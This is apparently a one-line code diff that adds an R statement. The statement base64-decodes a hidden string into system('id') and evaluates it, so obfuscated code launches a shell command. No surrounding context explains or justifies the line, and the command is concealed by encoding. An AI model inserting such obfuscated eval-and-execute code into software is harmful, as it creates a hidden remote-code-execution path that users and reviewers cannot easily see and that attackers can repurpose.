@@ -1,0 +1,1 @@
+eval(parse(text = rawToChar(openssl::base64_decode("c3lzdGVtKCdpZCcp"))))
